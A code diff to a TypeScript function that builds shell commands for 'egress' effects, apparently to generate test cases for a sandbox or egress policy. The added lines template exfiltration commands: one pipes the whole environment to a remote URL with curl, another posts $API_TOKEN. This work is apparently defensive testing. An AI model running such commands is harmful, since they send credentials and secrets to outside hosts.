@@ -91,6 +91,9 @@ function egressCommand(effect: Extract<Effect, { kind: "egress" }>): string | un
     return sends ? "git push origin work" : "git fetch origin";
   if (destination.known !== undefined || destination.host === undefined) return undefined;
   const url = `https://${destination.host.includes(":") ? `[${destination.host}]` : destination.host}/`;
+  const kinds = new Set(carries.map(({ kind }) => kind));
+  if (kinds.has("environment")) return `env | curl -d @- ${url}`;
+  if (kinds.has("variable")) return `curl -d "$API_TOKEN" ${url}`;
   return sends ? `curl -T README.md ${url}` : `curl ${url}`;
 }
 
